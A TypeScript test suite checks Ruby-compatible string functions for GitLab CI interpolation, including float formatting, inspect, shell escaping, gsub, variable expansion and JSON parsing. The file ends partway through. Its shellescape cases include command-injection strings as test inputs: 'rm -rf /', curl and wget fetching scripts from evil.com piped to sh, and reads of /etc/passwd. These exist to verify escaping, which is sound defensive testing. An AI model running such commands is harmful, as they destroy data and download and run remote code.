/**
 * Ruby string semantics used by `$[[ ]]` interpolation.
 *
 * Where an expected value comes from:
 * - "spec: <file>" is an example ported from gitlabhq/gitlabhq's RSpec files;
 * - "doc" is an example from Ruby's documentation or ruby/ruby's source comments or tests;
 * - "ruby" is the output of running the expression in Ruby (Ruby 3.1.2 with Oj 3.14.2, checked by
 *   hand; the methods involved did not change up to 3.3 unless noted);
 * - "src" is derived by reading the named C/Ruby source where running Ruby was not possible.
 */
import { describe, expect, it } from 'vitest';

import { RubyFloat, YamlReference, type Value } from '../../../scripts/gitlab/ruby/value.js';
import {
  RubyError,
  expandExisting,
  gsubLiteral,
  parseRubyJson,
  rubyFloatToS,
  rubyInspect,
  rubyInspectString,
  rubySlice,
  rubySplitStrip,
  rubySymbolInspect,
  rubyToS,
  shellescape,
  toRubyJson,
} from '../../../scripts/gitlab/ruby/ruby.js';

const map = (entries: [string, Value][]): Map<string, Value> => new Map(entries);

describe('rubyFloatToS (Float#to_s)', () => {
  // ruby: `p 1.0, 6.6, 1e20, ...` (Float#to_s / Float#inspect agree)
  it.each([
    [1.0, '1.0'],
    [6.6, '6.6'],
    [100.0, '100.0'],
    [1e20, '1.0e+20'],
    [1e-5, '1.0e-05'],
    [1e-4, '0.0001'],
    [0.0001234, '0.0001234'],
    [2.5e-5, '2.5e-05'],
    [1.2e-6, '1.2e-06'],
    [1e-10, '1.0e-10'],
    [1e15, '1.0e+15'], // no fraction digits and decpt 16 > DBL_DIG: exponent form already at 1e15
    [1e16, '1.0e+16'],
    [1e14, '100000000000000.0'],
    [9999999999999998.0, '9.999999999999998e+15'],
    [123456789012345.6, '123456789012345.6'], // fraction digits keep the decimal form
    [1234567890123456.8, '1234567890123456.8'],
    [12345678901234567.0, '1.2345678901234568e+16'],
    [0.1 + 0.2, '0.30000000000000004'],
    [5e-324, '5.0e-324'],
    [1.7976931348623157e308, '1.7976931348623157e+308'],
    [1e100, '1.0e+100'],
    [-1.5, '-1.5'],
    [-1e20, '-1.0e+20'],
    [0, '0.0'],
    [-0, '-0.0'],
    [Infinity, 'Infinity'],
    [-Infinity, '-Infinity'],
    [NaN, 'NaN'],
  ])('%s → %s', (value, expected) => {
    expect(rubyFloatToS(value)).toBe(expected);
  });

  it('follows the doc example (10.1**50).to_s', () => {
    // doc: Float#to_s, "(10.1**50).to_s # => \"1.644631821843879e+50\""
    expect(rubyFloatToS(10.1 ** 50)).toBe('1.644631821843879e+50');
  });
});

describe('rubyToS (#to_s of model values)', () => {
  // ruby: "#{x}" for each value; hashes as GitLab holds them, with Symbol keys (Ruby 3.3 format)
  it.each<[string, Value, string]>([
    ['string as is', 'x y', 'x y'],
    ['empty string', '', ''],
    ['integer', 42, '42'],
    ['negative integer', -7, '-7'],
    ['integer beyond 2^53 prints all digits', 1e21, '1000000000000000000000'],
    ['float', new RubyFloat(6.6), '6.6'],
    ['whole float', new RubyFloat(1), '1.0'],
    ['large float', new RubyFloat(1e20), '1.0e+20'],
    ['true', true, 'true'],
    ['false', false, 'false'],
    ['nil', null, ''],
    ['array of strings', ['x', 'y'], '["x", "y"]'],
    ['empty array', [], '[]'],
    ['empty hash', map([]), '{}'],
    ['array with nil, bool, float', [1, null, true, new RubyFloat(2.5), 'a"b'], '[1, nil, true, 2.5, "a\\"b"]'],
    ['nested', [1, [2, [null]], map([['b', [new RubyFloat(1), map([['c', 'd']])]]])], '[1, [2, [nil]], {:b=>[1.0, {:c=>"d"}]}]'],
    ['hash with quoted symbol key', map([['name', 'x'], ['a b', 1]]), '{:name=>"x", :"a b"=>1}'],
    ['hash key with dash', [map([['image-tag', 'v1']])], '[{:"image-tag"=>"v1"}]'],
    ['hash key that looks like a setter', map([['a=', 1]]), '{:a==>1}'],
  ])('%s', (_name, value, expected) => {
    expect(rubyToS(value)).toBe(expected);
  });

  it('prints a !reference as GitLab error messages show it', () => {
    // src: gitlabhq lib/gitlab/ci/config/yaml/tags/base.rb, "#{data[:tag]} #{data[:seq].inspect}"
    expect(rubyToS(new YamlReference(['.setup', 'script']))).toBe('!reference [".setup", "script"]');
    expect(rubyInspect([new YamlReference(['a'])])).toBe('[!reference ["a"]]');
  });

  it('inspects strings inside arrays with escapes', () => {
    // ruby: ["a\nb", "é😀", "#{x}"].to_s
    expect(rubyToS(['a\nb', 'é😀', '#{x}'])).toBe('["a\\nb", "é😀", "\\#{x}"]');
  });
});

describe('rubyInspectString (String#inspect)', () => {
  it('escapes quotes, backslashes and named control characters', () => {
    // ruby: "\"\\\n\t\r\e\a\b\f\v".inspect
    expect(rubyInspectString('"\\\n\t\r\x1b\x07\b\f\v')).toBe('"\\"\\\\\\n\\t\\r\\e\\a\\b\\f\\v"');
  });

  it('escapes other control characters as \\uXXXX (uppercase hex)', () => {
    // ruby: "\0\x01\x1f\x7f".inspect => "\u0000\u0001\u001F\u007F"
    expect(rubyInspectString('\0\x01\x1f\x7f')).toBe('"\\u0000\\u0001\\u001F\\u007F"');
  });

  it('escapes # only before {, $ and @', () => {
    // ruby: "#{a} #$ #@ # #x".inspect (written with single quotes) => "\#{a} \#$ \#@ # #x"
    expect(rubyInspectString('#{a} #$ #@ # #x')).toBe('"\\#{a} \\#$ \\#@ # #x"');
    expect(rubyInspectString('#')).toBe('"#"');
    expect(rubyInspectString('a#')).toBe('"a#"');
  });

  it('keeps printable Unicode and escapes unprintable code points', () => {
    // ruby: each of these .inspect, with Encoding.default_external UTF-8
    expect(rubyInspectString('é 😀')).toBe('"é 😀"');
    expect(rubyInspectString('\u00a0\u200b\ufeff\u{e0001}\ue000')).toBe('"\u00a0\u200b\ufeff\u{e0001}\ue000"');
    expect(rubyInspectString('\u0085')).toBe('"\u0085"'); // NEL prints raw in Ruby
    expect(rubyInspectString('\u0080\u009f')).toBe('"\\u0080\\u009F"');
    expect(rubyInspectString('\u2028\u2029')).toBe('"\\u2028\\u2029"');
    expect(rubyInspectString('\u0378\uffff')).toBe('"\\u0378\\uFFFF"'); // unassigned
    expect(rubyInspectString('\u{10ffff}\u{50000}')).toBe('"\\u{10FFFF}\\u{50000}"');
  });

  it('handles the empty string', () => {
    // doc: "".inspect => "\"\""
    expect(rubyInspectString('')).toBe('""');
  });
});

describe('rubySymbolInspect (Symbol#inspect, Hash#inspect keys)', () => {
  // ruby: name.to_sym.inspect for each name
  it.each([
    ['a', ':a'], ['A', ':A'], ['_', ':_'], ['foo_bar', ':foo_bar'], ['_1', ':_1'],
    ['a?', ':a?'], ['a!', ':a!'], ['a=', ':a='], ['A=', ':A='], ['a1?', ':a1?'],
    ['a?=', ':"a?="'], ['a!=', ':"a!="'], ['a??', ':"a??"'], ['ab==', ':"ab=="'], ['foo=bar', ':"foo=bar"'],
    ['$a', ':$a'], ['$1', ':$1'], ['$12', ':$12'], ['$-w', ':$-w'], ['$-', ':"$-"'], ['$-ww', ':"$-ww"'],
    ['$~', ':$~'], ['$$', ':$$'], ['$"', ':$"'], ['$0', ':$0'], ['$01', ':"$01"'], ['$_', ':$_'],
    ['$a?', ':"$a?"'], ['$a=', ':"$a="'], ['$-é', ':$-é'], ['$é', ':$é'],
    ['@a', ':@a'], ['@@a', ':@@a'], ['@a?', ':"@a?"'], ['@a=', ':"@a="'], ['@', ':"@"'], ['@@', ':"@@"'], ['@1', ':"@1"'], ['@é', ':@é'],
    ['<', ':<'], ['<<', ':<<'], ['<=', ':<='], ['<=>', ':<=>'], ['>', ':>'], ['>>', ':>>'], ['>=', ':>='],
    ['=', ':"="'], ['==', ':=='], ['===', ':==='], ['=~', ':=~'], ['=>', ':"=>"'],
    ['*', ':*'], ['**', ':**'], ['+', ':+'], ['-', ':-'], ['+@', ':+@'], ['-@', ':-@'],
    ['|', ':|'], ['^', ':^'], ['&', ':&'], ['/', ':/'], ['%', ':%'], ['~', ':~'], ['`', ':`'],
    ['[]', ':[]'], ['[]=', ':[]='], ['[', ':"["'], ['[]?', ':"[]?"'], ['<=>=', ':"<=>="'],
    ['!', ':!'], ['!=', ':!='], ['!~', ':!~'], ['!!', ':"!!"'],
    ['a b', ':"a b"'], ['a-b', ':"a-b"'], ['1a', ':"1a"'], ['a.b', ':"a.b"'], ['a::b', ':"a::b"'], ['', ':""'],
    ['é', ':é'], ['😀', ':😀'], ['aé', ':aé'], ['a\u00a0', ':a\u00a0'],
    ['a\u2028', ':"a\\u2028"'], // not printable: quoted, UTF-8 escape
    ['a\0', ':"a\\x00"'], // ASCII-only symbols are US-ASCII: \x escapes
  ])('%j → %s', (name, expected) => {
    expect(rubySymbolInspect(name)).toBe(expected);
  });

  it('quotes @= and ?= as Ruby 3.2+ does', () => {
    // src: Bug #18905 (":\"@=\".inspect is non-evaluatable", DevMeeting 2022-07: "nobu: Refined outputs");
    // ruby/ruby symbol.c `if (allowed_attrset & (1U << type)) return ID_ATTRSET;`. Ruby 3.1 printed :@=.
    expect(rubySymbolInspect('@=')).toBe(':"@="');
    expect(rubySymbolInspect('?=')).toBe(':"?="');
  });

  it('matches ruby/ruby test_symbol.rb test_inspect', () => {
    // doc: ruby/ruby test/ruby/test_symbol.rb
    for (const sym of ['$a', '@a', '@@a', '<', '<<', '<=', '<=>', '>', '>>', '>=', '=~', '==', '===', '*', '**', '+', '+@', '-', '-@',
      '|', '^', '&', '/', '%', '~', '`', '[]', '[]=', '!', '!=', '!~', 'a', 'a?', 'a!', 'a=', 'A', 'A?', 'A!', 'A=']) {
      expect(rubySymbolInspect(sym)).toBe(`:${sym}`);
    }
    for (const sym of ['$a?', '$a!', '$a=', '@a?', '@a!', '@a=', '@@a?', '@@a!', '@@a=', '=']) {
      expect(rubySymbolInspect(sym)).toBe(`:"${sym}"`);
    }
    expect(rubySymbolInspect('!foo')).toBe(':"!foo"');
    expect(rubySymbolInspect('foo==')).toBe(':"foo=="');
  });
});

describe('shellescape (Shellwords.shellescape)', () => {
  // spec: spec/lib/gitlab/ci/config/interpolation/functions/posix_escape_spec.rb
  it.each([
    ['String with " and \' and  blanks', 'String\\ with\\ \\"\\ and\\ \\\'\\ and\\ \\ blanks'],
    ['Blank space', 'Blank\\ space'],
    ["Single-'-quote", "Single-\\'-quote"],
    ['Double-"-quote', 'Double-\\"-quote'],
    ['file.txt; rm -rf /', 'file.txt\\;\\ rm\\ -rf\\ /'],
    ['`curl evil.com/steal.sh | sh`', '\\`curl\\ evil.com/steal.sh\\ \\|\\ sh\\`'],
    ['file_$(whoami).txt', 'file_\\$\\(whoami\\).txt'],
    ['input.txt | cat /etc/passwd', 'input.txt\\ \\|\\ cat\\ /etc/passwd'],
    ['file.txt\nwget http://evil.com/malware.sh', "file.txt'\n'wget\\ http://evil.com/malware.sh"],
    ['$CI_JOB_TOKEN', '\\$CI_JOB_TOKEN'],
    ['*.rb', '\\*.rb'],
  ])('posix_escape_spec: %j', (input, expected) => {
    expect(shellescape(input)).toBe(expected);
  });

  it('follows the stdlib doc examples', () => {
    // doc: lib/shellwords.rb, Shellwords.escape("It's better to give than to receive")
    expect(shellescape("It's better to give than to receive")).toBe("It\\'s\\ better\\ to\\ give\\ than\\ to\\ receive");
    expect(shellescape("special's.txt")).toBe("special\\'s.txt");
  });

  it("returns '' for the empty string", () => {
    // doc: lib/shellwords.rb, "Returns an empty quoted String if +str+ has a length of zero."
    expect(shellescape('')).toBe("''");
  });

  it('keeps the safe set, including + (current shellwords regex)', () => {
    // src: lib/shellwords.rb `[^A-Za-z0-9_\-.,:+\/@\n]`
    expect(shellescape('Az09_-.,:+/@')).toBe('Az09_-.,:+/@');
  });

  it('escapes each multibyte character once, by code point', () => {
    // ruby: "é😀a b\n".shellescape => "\\é\\😀a\\ b'\n'"; "\u00a0" => "\\\u00a0"; "a\u0301" => "a\\\u0301"
    expect(shellescape('é😀a b\n')).toBe("\\é\\😀a\\ b'\n'");
    expect(shellescape('\u00a0')).toBe('\\\u00a0');
    expect(shellescape('a\u0301')).toBe('a\\\u0301');
  });

  it('escapes tabs, backslashes and quotes', () => {
    // ruby: "a\tb\\c'".shellescape
    expect(shellescape("a\tb\\c'")).toBe("a\\\tb\\\\c\\'");
  });
});

describe('rubySlice (str[offset, length].to_s)', () => {
  it('truncates as truncate_spec expects', () => {
    // spec: spec/lib/gitlab/ci/config/interpolation/functions/truncate_spec.rb, 'test' with truncate(1,2)
    expect(rubySlice('test', 1, 2)).toBe('es');
  });

  it.each<[string, number, number, string]>([
    // doc: String#[] ("hello"[1, 3] => "ell"; at size => ""; past size => nil)
    ['hello', 1, 3, 'ell'],
    ['hello', 0, 100, 'hello'],
    ['hello', 5, 2, ''],
    ['hello', 6, 2, ''], // nil.to_s
    ['hello', 2, 0, ''],
    ['', 0, 1, ''],
    ['', 1, 1, ''],
    ['hello', -3, 2, 'll'],
    ['hello', -6, 2, ''], // nil
    ['hello', 1, -1, ''], // nil
    // ruby: characters, not bytes or UTF-16 units
    ['a😀b', 1, 1, '😀'],
    ['😀😀😀', 1, 5, '😀😀'],
    ['héllo', 0, 2, 'hé'],
  ])('%j[%d, %d] → %j', (s, offset, length, expected) => {
    expect(rubySlice(s, offset, length)).toBe(expected);
  });
});

describe('rubySplitStrip (split(sep).map(&:strip).reject(&:empty?))', () => {
  // spec: spec/lib/gitlab/ci/config/interpolation/functions/split_spec.rb
  it.each<[string, string, string[]]>([
    ['a,b,c,d,e', ',', ['a', 'b', 'c', 'd', 'e']],
    ['a, b, c', ',', ['a', 'b', 'c']],
    ['a,,b', ',', ['a', 'b']],
    ['a;b;c', ';', ['a', 'b', 'c']],
    ['only-one', ',', ['only-one']],
    ['', ',', []],
  ])('split_spec: %j split %j', (s, sep, expected) => {
    expect(rubySplitStrip(s, sep)).toEqual(expected);
  });

  it('splits awk-style on a single space', () => {
    // ruby: " a  b\t\nc\v\0d ".split(" ") => ["a", "b", "c", "\u0000d"], then strip drops the NUL
    expect(rubySplitStrip(' a  b\t\nc\v\0d ', ' ')).toEqual(['a', 'b', 'c', 'd']);
    // ruby: "a\u00a0b\u3000c".split(" ") => one field: NBSP and ideographic space are not whitespace
    expect(rubySplitStrip('a\u00a0b\u3000c', ' ')).toEqual(['a\u00a0b\u3000c']);
  });

  it('strips ASCII whitespace and NUL, not Unicode spaces', () => {
    // ruby: "\0\t\n\v\f\r a\u00a0 \0\0".strip => "a\u00a0"; "a\u3000".strip => "a\u3000"
    expect(rubySplitStrip('\0\t\n\v\f\r a\u00a0 \0\0', ',')).toEqual(['a\u00a0']);
    expect(rubySplitStrip('a\u3000, b', ',')).toEqual(['a\u3000', 'b']);
  });

  it('uses multi-character and multibyte separators literally', () => {
    // ruby: "a, b,c".split(", ") => ["a", "b,c"]; "x😀y😀".split("😀") => ["x", "y"]; "a.b".split(".") => ["a", "b"]
    expect(rubySplitStrip('a, b,c', ', ')).toEqual(['a', 'b,c']);
    expect(rubySplitStrip('x😀y😀', '😀')).toEqual(['x', 'y']);
    expect(rubySplitStrip('a.b', '.')).toEqual(['a', 'b']);
    expect(rubySplitStrip('a\tb', '\t')).toEqual(['a', 'b']);
  });

  it('splits into characters on an empty separator', () => {
    // ruby: "abc".split("") => ["a", "b", "c"]; "é😀".split("") => ["é", "😀"]
    expect(rubySplitStrip('abc', '')).toEqual(['a', 'b', 'c']);
    expect(rubySplitStrip('é😀', '')).toEqual(['é', '😀']);
  });
});

describe('gsubLiteral (String#gsub(String, String))', () => {
  // ruby: "xaby".gsub("ab", replacement) for each replacement
  it.each([
    ['[\\0]', 'x[ab]y'],
    ['[\\&]', 'x[ab]y'],
    ['[\\1]', 'x[]y'],
    ['[\\9]', 'x[]y'],
    ['[\\+]', 'x[]y'],
    ['[\\`]', 'x[x]y'],
    ["[\\']", 'x[y]y'],
    ['[\\\\]', 'x[\\]y'],
    ['[\\n]', 'x[\\n]y'],
    ['[\\]', 'x[\\]y'],
    ['\\', 'x\\y'], // trailing lone backslash stays
    ['[\\k]', 'x[\\k]y'],
    ['[\\é]', 'x[\\é]y'],
    ['[\\😀]', 'x[\\😀]y'],
    ['\\\\\\0', 'x\\aby'],
    ['\\00', 'xab0y'],
    ['\\10', 'x0y'],
    ['plain', 'xplainy'],
  ])('replacement %j → %j', (replacement, expected) => {
    expect(gsubLiteral('xaby', 'ab', replacement)).toBe(expected);
  });

  it('gives each match its own prematch and postmatch from the original subject', () => {
    // ruby: "xabyab".gsub("ab", "[\\`|\\']") => "x[x|yab]y[xaby|]"
    expect(gsubLiteral('xabyab', 'ab', "[\\`|\\']")).toBe('x[x|yab]y[xaby|]');
  });

  it('replaces non-overlapping occurrences left to right', () => {
    // ruby: "aaa".gsub("aa", "b") => "ba"
    expect(gsubLiteral('aaa', 'aa', 'b')).toBe('ba');
    expect(gsubLiteral('no match', 'zz', 'b')).toBe('no match');
  });

  it('matches an empty pattern at every character boundary', () => {
    // ruby: "abc".gsub("", "-") => "-a-b-c-"; "é😀".gsub("", "-") => "-é-😀-"
    expect(gsubLiteral('abc', '', '-')).toBe('-a-b-c-');
    expect(gsubLiteral('é😀', '', '-')).toBe('-é-😀-');
    expect(gsubLiteral('', '', '-')).toBe('-');
  });

  it('treats the pattern literally (block text with regex characters)', () => {
    // src: Template#interpolate_string_node! uses gsub(block.to_s, value.to_s) with a String pattern
    expect(gsubLiteral('echo $[[ inputs.a ]] $[[ inputs.a ]]', '$[[ inputs.a ]]', 'v')).toBe('echo v v');
    expect(gsubLiteral('a.c abc', '.', '!')).toBe('a!c abc');
  });

  it('handles multibyte subjects, patterns and back-references', () => {
    // ruby: "é😀é".gsub("😀", "<\\0\\`>") => "é<😀é>é"
    expect(gsubLiteral('é😀é', '😀', '<\\0\\`>')).toBe('é<😀é>é');
  });

  it('raises as Ruby does for \\k<name>', () => {
    // ruby: "xaby".gsub("ab", "[\\k<x>]") raises IndexError "undefined group name reference: x"
    expect(() => gsubLiteral('xaby', 'ab', '[\\k<x>]')).toThrow(new RubyError('IndexError', 'undefined group name reference: x'));
    // ruby: "xaby".gsub("ab", "[\\k<x]") raises RuntimeError "invalid group name reference format"
    expect(() => gsubLiteral('xaby', 'ab', '[\\k<x]')).toThrow('invalid group name reference format');
    try {
      gsubLiteral('xaby', 'ab', '\\k<x]');
    } catch (error) {
      expect(error).toBeInstanceOf(RubyError);
      expect((error as RubyError).rubyClass).toBe('RuntimeError');
    }
    // no match: the replacement is never read, so nothing is raised (ruby: "x".gsub("ab", "\\k<x>") => "x")
    expect(gsubLiteral('x', 'ab', '\\k<x>')).toBe('x');
  });
});

describe('expandExisting (ExpandVariables.expand_existing)', () => {
  const run = (value: string, variables: { key: string; value: string; masked?: boolean }[], failOnMasked = false) =>
    expandExisting(value, variables, failOnMasked);

  // spec: spec/lib/expand_variables_spec.rb, 'common variable expansion' (for #expand_existing)
  it.each<[string, string, string, { key: string; value: string }[]]>([
    ['no expansion', 'key', 'key', []],
    ['simple expansion', 'key$variable', 'keyvalue', [{ key: 'variable', value: 'value' }]],
    ['complex expansion', 'key${variable}', 'keyvalue', [{ key: 'variable', value: 'value' }]],
    ['expansion using %', 'key%variable%', 'keyvalue', [{ key: 'variable', value: 'value' }]],
    ['multiple simple expansions', 'key$variable$variable2', 'keyvalueresult', [{ key: 'variable', value: 'value' }, { key: 'variable2', value: 'result' }]],
    ['multiple complex expansions', 'key${variable}${variable2}', 'keyvalueresult', [{ key: 'variable', value: 'value' }, { key: 'variable2', value: 'result' }]],
    ['nested expansion is not expanded', 'key$variable$variable2', 'keyvalue$variable3', [
      { key: 'variable', value: 'value' }, { key: 'variable2', value: '$variable3' }, { key: 'variable3', value: 'result' },
    ]],
    ['out-of-order expansion', 'key$variable2$variable', 'keyresultvalue', [{ key: 'variable', value: 'value' }, { key: 'variable2', value: 'result' }]],
    ['out-of-order complex expansion', 'key${variable2}${variable}', 'keyresultvalue', [{ key: 'variable', value: 'value' }, { key: 'variable2', value: 'result' }]],
    ['review-apps expansion', 'review/$CI_COMMIT_REF_NAME', 'review/feature/add-review-apps', [{ key: 'CI_COMMIT_REF_NAME', value: 'feature/add-review-apps' }]],
    // 'with missing variables' for #expand_existing
    ['missing variable', 'key$variable', 'key$variable', []],
    ['complex expansions with missing variable', 'key${variable}${variable2}', 'keyvalue${variable2}', [{ key: 'variable', value: 'value' }]],
    ['complex expansions with missing variable for Windows', 'key%variable%%variable2%', 'keyvalue%variable2%', [{ key: 'variable', value: 'value' }]],
  ])('expand_variables_spec: %s', (_name, value, expected, variables) => {
    expect(run(value, variables)).toEqual({ ok: true, value: expected });
  });

  describe('masked variables', () => {
    // spec: spec/lib/expand_variables_spec.rb, 'masked variable expansion with fail_on_masked true/false'
    it.each<[string, string, { key: string; value: string; masked: boolean }[], string]>([
      ['simple expansion with a masked variable', 'key$variable', [{ key: 'variable', value: 'value', masked: true }], 'keyvalue'],
      ['complex expansion with a masked variable', 'key${variable}${variable2}', [
        { key: 'variable', value: 'value', masked: true }, { key: 'variable2', value: 'result', masked: false },
      ], 'keyvalueresult'],
      ['expansion using % with a masked variable', 'key%variable%', [{ key: 'variable', value: 'value', masked: true }], 'keyvalue'],
    ])('%s', (_name, value, variables, withoutFailing) => {
      expect(run(value, variables, true)).toEqual({ ok: false, error: 'masked' });
      expect(run(value, variables, false)).toEqual({ ok: true, value: withoutFailing });
    });

    it('expands unmasked variables with fail_on_masked true', () => {
      const variables = [{ key: 'variable', value: 'value', masked: false }, { key: 'variable2', value: 'result', masked: false }];
      expect(run('key$variable${variable2}', variables, true)).toEqual({ ok: true, value: 'keyvalueresult' });
    });

    it('only fails when a masked variable is referenced', () => {
      // src: lib/expand_variables.rb raises inside the gsub block, i.e. only for a matched, known, masked variable
      const variables = [{ key: 'SECRET', value: 's', masked: true }, { key: 'A', value: 'a' }];
      expect(run('$A and $UNKNOWN', variables, true)).toEqual({ ok: true, value: 'a and $UNKNOWN' });
      expect(run('no refs', variables, true)).toEqual({ ok: true, value: 'no refs' });
      expect(run('$A then %SECRET%', variables, true)).toEqual({ ok: false, error: 'masked' });
    });
  });

  // spec: spec/lib/gitlab/ci/config/interpolation/functions/expand_vars_spec.rb
  describe('expand_vars_spec', () => {
    const variables = [
      { key: 'VAR1', value: 'value1', masked: false },
      { key: 'VAR2', value: 'value2', masked: false },
      { key: 'NESTED_VAR', value: '$MY_VAR', masked: false },
      { key: 'MASKED_VAR', value: 'masked', masked: true },
    ];
    it.each([
      ['$VAR1', 'value1'],
      ['$NESTED_VAR', '$MY_VAR'],
      ['$UNKNOWN_VAR', '$UNKNOWN_VAR'],
      ['${VAR1} $VAR2 %VAR1%', 'value1 value2 value1'],
    ])('%s → %s', (value, expected) => {
      expect(expandExisting(value, variables, true)).toEqual({ ok: true, value: expected });
    });
    it('fails on $MASKED_VAR', () => {
      expect(expandExisting('$MASKED_VAR', variables, true)).toEqual({ ok: false, error: 'masked' });
    });
  });

  it('lets the last variable with a repeated key win', () => {
    // src: lib/gitlab/ci/variables/collection.rb `def [](key) all(key)&.last end`
    const variables = [{ key: 'A', value: 'first' }, { key: 'A', value: 'second' }];
    expect(run('$A', variables)).toEqual({ ok: true, value: 'second' });
  });

  it('matches names the way VARIABLES_REGEXP does', () => {
    // ruby: gsub with /\$([a-zA-Z_][a-zA-Z0-9_]*)|\${\g<1>}|%\g<1>%/
    const variables = [{ key: 'x', value: 'X' }, { key: 'x_1', value: 'Y' }];
    expect(run('$$x %%x% ${x $1x $x_1é %x 1%', variables)).toEqual({ ok: true, value: '$X %X ${x $1x Yé %x 1%' });
    expect(run('${x}', variables)).toEqual({ ok: true, value: 'X' });
    expect(run('a%x%x%', variables)).toEqual({ ok: true, value: 'aXx%' });
  });

  it('inserts values literally (no backslash or $ processing)', () => {
    // src: gsub with a block inserts the block's value as is
    expect(run('$A', [{ key: 'A', value: '\\0 $& $1 ${B}' }, { key: 'B', value: 'b' }])).toEqual({ ok: true, value: '\\0 $& $1 ${B}' });
  });
});

describe('parseRubyJson (Gitlab::Json.parse, Oj :rails mode)', () => {
  const ok = (value: Value) => ({ ok: true, value });

  it('parses what the Ci::Inputs specs rely on', () => {
    // spec: spec/lib/ci/inputs/number_input_spec.rb "coerces string to number via JSON parsing": '42' → 42
    expect(parseRubyJson('42')).toEqual(ok(42));
    // spec: array_input_spec / docs: '["a","b"]' → array; 'true' → true; 'hello' is not JSON
    expect(parseRubyJson('["a","b"]')).toEqual(ok(['a', 'b']));
    expect(parseRubyJson('true')).toEqual(ok(true));
    expect(parseRubyJson('hello')).toEqual({ ok: false });
  });

  // ruby: Oj.load(text, mode: :rails) for each text; src: ohler55/oj ext/oj/parse.c
  it.each<[string, Value]>([
    ['42', 42],
    [' 42 ', 42],
    ['\n42\t', 42],
    ['\f1\f', 1],
    ['-0', 0],
    ['01', 1],
    ['00', 0],
    ['-01', -1],
    ['+1', 1],
    ['1.', 1], // trailing dot: still an Integer
    ['-', 0],
    ['+', 0],
    ['[-]', [0]],
    ['false', false],
    ['null', null],
    ['"str"', 'str'],
    ['"a\\u00e9\\ud83d\\ude00"', 'aé😀'],
    ['"\\ud83d\\u0041"', '\u{1F441}'], // the second escape is combined without checking it is a low surrogate
    ['"\\udc00\\udc00"', '\u{10000}'],
    ['"\\b\\f\\n\\r\\t\\"\\\\\\/"', '\b\f\n\r\t"\\/'],
    ['"\\u0000"', '\0'],
    ['"raw\ttab"', 'raw\ttab'],
    ['"raw\nnl"', 'raw\nnl'],
    ['"é😀"', 'é😀'],
    ['[1,2]', [1, 2]],
    ['[]', []],
    [' [ ] ', []],
    ['/* c */ 1', 1],
    ['// c\n1', 1],
    ['[1 /*x*/ ,2]', [1, 2]],
    ['[1 // c\n]', [1]],
    ['1\0xyz', 1], // NUL ends the input
    ['123456789012345678', 123456789012345678],
  ])('%j', (text, expected) => {
    expect(parseRubyJson(text)).toEqual(ok(expected));
  });

  it('parses objects into Maps in key order, last duplicate value at the first position', () => {
    // ruby: Oj.load('{"b":1,"a":2,"b":3}', mode: :rails) => {"b"=>3, "a"=>2}
    expect(parseRubyJson('{"a":1,"b":[true,null]}')).toEqual(ok(map([['a', 1], ['b', [true, null]]])));
    expect(parseRubyJson('{"b":1,"a":2,"b":3}')).toEqual(ok(map([['b', 3], ['a', 2]])));
    expect(parseRubyJson('{}')).toEqual(ok(map([])));
    expect(parseRubyJson('{"a" /*c*/ : 1}')).toEqual(ok(map([['a', 1]])));
    const parsed = parseRubyJson('{"2":"x","1":"y"}');
    expect(parsed.ok && parsed.value instanceof Map ? [...parsed.value.keys()] : []).toEqual(['2', '1']);
  });

  it('turns numbers with a fraction or exponent into RubyFloat', () => {
    // ruby: Oj.load(x, mode: :rails).class == Float for each
    const floats: [string, number][] = [
      ['1.0', 1], ['-0.0', -0], ['1e5', 100000], ['1E+5', 100000], ['1.5e-3', 0.0015], ['2.5E3', 2500], ['1e05', 100000],
      ['-.5', -0.5], ['+.5', 0.5], ['00.5', 0.5], ['0.1', 0.1], ['0.1e1', 1], ['5e-1', 0.5], ['-0.0e0', -0],
      ['1e400', Infinity], ['-1e400', -Infinity], ['1e-400', 0], ['4.9e-324', 5e-324], ['0.1234567890123456', 0.1234567890123456],
    ];
    for (const [text, expected] of floats) {
      const result = parseRubyJson(text);
      expect(result.ok, text).toBe(true);
      if (result.ok) {
        expect(result.value, text).toBeInstanceOf(RubyFloat);
        expect(Object.is((result.value as RubyFloat).value, expected), text).toBe(true);
      }
    }
    expect(parseRubyJson('[-.5]')).toEqual(ok([new RubyFloat(-0.5)]));
  });

  it('accepts NaN and Infinity spellings as Oj does', () => {
    // ruby: NaN nan Nan naN -nan → NaN; Infinity +Infinity -Infinity
    for (const text of ['NaN', 'nan', 'Nan', 'naN', '-nan']) {
      const result = parseRubyJson(text);
      expect(result.ok && result.value instanceof RubyFloat && Number.isNaN(result.value.value), text).toBe(true);
    }
    expect(parseRubyJson('Infinity')).toEqual(ok(new RubyFloat(Infinity)));
    expect(parseRubyJson('+Infinity')).toEqual(ok(new RubyFloat(Infinity)));
    expect(parseRubyJson('-Infinity')).toEqual(ok(new RubyFloat(-Infinity)));
  });

  // ruby: each raises in Oj.load(text, mode: :rails), so GitLab keeps the original string
  it.each([
    '', '   ', '\v1', '\ufeff42', '\u00a042', 'hello', 'nil', 'True', 'NAN', 'tru', 'truex', 'nul', 'nulll', 'Infinityx',
    '.5', '0x10', '1e', '1.e5', '0.5e', '1.5E+', '1.5.', '42abc', '-x', '1 2', '[1] [2]', '[1] x', '1 // c',
    "'str'", '"unterminated', '"a\0b"', '"\\ud800"', '"bad\\x"', "\"\\'\"", '"\\u00"', '"\\uzzzz"',
    '[1,2,]', '[,]', '[1,2', '[1 2]', '[1,\0', '[1 /* x', '{"a":1,}', '{a:1}', '{"a"}', '{"a":}', '{1:2}', '{,}', '{"a" 1}', '{"a":1 "b":2}',
    '/* c */', '// c', '/x 1',
  ])('rejects %j', (text) => {
    expect(parseRubyJson(text)).toEqual({ ok: false });
  });
});

describe('toRubyJson (to_json / JSON.pretty_generate)', () => {
  it('writes compact JSON like to_json', () => {
    // ruby: JSON.generate([...]) (json gem; floats via Float#to_s)
    const value: Value = [new RubyFloat(1), new RubyFloat(1e20), new RubyFloat(1e-5), new RubyFloat(100), new RubyFloat(-0), 12, null, true,
      map([['a', []], ['b', map([])], ['c', [1, map([['d', null]])]]])];
    expect(toRubyJson(value)).toBe('[1.0,1.0e+20,1.0e-05,100.0,-0.0,12,null,true,{"a":[],"b":{},"c":[1,{"d":null}]}]');
  });

  it('escapes strings as the json gem does', () => {
    // ruby: JSON.generate("\u0001\u001f\x7f/\u2028\b\f\n\r\t\"\\é😀")
    expect(toRubyJson('\u0001\u001f\x7f/\u2028\b\f\n\r\t"\\é😀')).toBe('"\\u0001\\u001f\x7f/\u2028\\b\\f\\n\\r\\t\\"\\\\é😀"');
  });

